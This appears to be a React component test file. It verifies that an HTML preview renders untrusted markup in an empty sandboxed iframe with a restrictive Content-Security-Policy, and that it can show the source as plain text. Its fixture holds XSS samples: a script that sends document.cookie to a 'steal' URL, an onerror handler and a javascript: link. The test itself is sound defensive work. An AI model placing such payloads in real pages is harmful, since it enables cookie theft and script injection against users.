import { screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it } from "vitest";
import { HTML_PREVIEW_CSP, HtmlView } from "./HtmlView";
import { renderWithI18n } from "../../test/renderWithI18n";

// demo://samples/unsafe.html of the demo server.
const UNSAFE = `<!doctype html>
<html>
<head><title>Untrusted HTML</title></head>
<body>
  <h1>This document is untrusted</h1>
  <script>document.title = "script ran"; fetch("http://127.0.0.1:9/steal?c=" + document.cookie);</script>
  <img src="x" onerror="alert('onerror ran')">
  <a href="javascript:alert('link ran')">a javascript: link</a>
  <iframe src="https://example.com"></iframe>
</body>
</html>`;

describe("HTML", () => {
  it("renders only in a sandboxed frame that runs nothing and fetches nothing", () => {
    const { container } = renderWithI18n(<HtmlView text={UNSAFE} uri="demo://samples/unsafe.html" />);
    const frame = screen.getByTestId("preview-html");
    expect(frame.tagName).toBe("IFRAME");
    // An empty sandbox: no scripts, no forms, no popups, no navigating the app.
    expect(frame.getAttribute("sandbox")).toBe("");
    expect(frame).not.toHaveAttribute("src");
    const srcdoc = frame.getAttribute("srcdoc") ?? "";
    expect(srcdoc.startsWith(`<meta http-equiv="Content-Security-Policy" content="${HTML_PREVIEW_CSP}">`)).toBe(true);
    expect(HTML_PREVIEW_CSP).toContain("default-src 'none'");
    expect(HTML_PREVIEW_CSP).not.toMatch(/script-src|unsafe-eval/);
    // Nothing of the document reached the app's own page.
    expect(container.querySelectorAll("script, img, a, h1")).toHaveLength(0);
    expect(document.title).not.toBe("script ran");
    expect(frame).toHaveAccessibleName("HTML content of demo://samples/unsafe.html, with scripts disabled");
  });

  it("shows the source as text on request", async () => {
    const user = userEvent.setup();
    const { container } = renderWithI18n(<HtmlView text={UNSAFE} uri="demo://samples/unsafe.html" />);
    await user.click(screen.getByRole("button", { name: "Source" }));
    expect(screen.queryByTestId("preview-html")).toBeNull();
    expect(await screen.findByTestId("preview-text")).toHaveTextContent("<script>document.title");
    expect(container.querySelector("script, img, iframe")).toBeNull();
  });
});
